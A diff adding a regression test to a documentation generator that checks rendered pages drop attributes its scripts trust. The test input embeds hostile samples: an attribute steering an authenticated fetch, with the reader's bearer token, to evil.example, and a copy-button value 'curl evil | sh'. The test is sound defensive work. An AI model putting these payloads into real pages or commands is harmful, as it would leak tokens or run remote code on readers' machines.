@@ -107,6 +107,22 @@ def test_root_relative_links_on_a_root_page_never_become_a_scheme(tmp_path: Path
         assert not url.startswith(("//", "\\", "/\\")), url
 
 
+def test_pages_never_write_the_attributes_docgens_scripts_read() -> None:
+    """playground.js reads the first ``.op-layout[data-docgen-playground]`` and, in auth mode,
+    fetches its ``src`` with the reader's bearer token: a page could write one (only document
+    order kept the real one first). Other ``data-*`` attributes stay."""
+    from docgen.render.mdx import render_mdx
+
+    page = (
+        "<div className=\"op-layout\" data-docgen-playground='{\"mode\":\"auth\",\"src\":"
+        "\"https://evil.example/\"}' data-MDX-copy data-x=\"1\">a</div>\n\n"
+        'x <span data-docgen-copy="curl evil | sh">y</span>\n'
+    )
+    html = render_mdx(page, 1, "./").rendered.html
+    assert "data-docgen" not in html.lower() and "data-mdx" not in html.lower(), html
+    assert 'data-x="1"' in html
+
+
 def test_every_template_autoescapes() -> None:
     env = environment()
     for name in ("x.txt", "x.md", "x.xml", "x.html"):
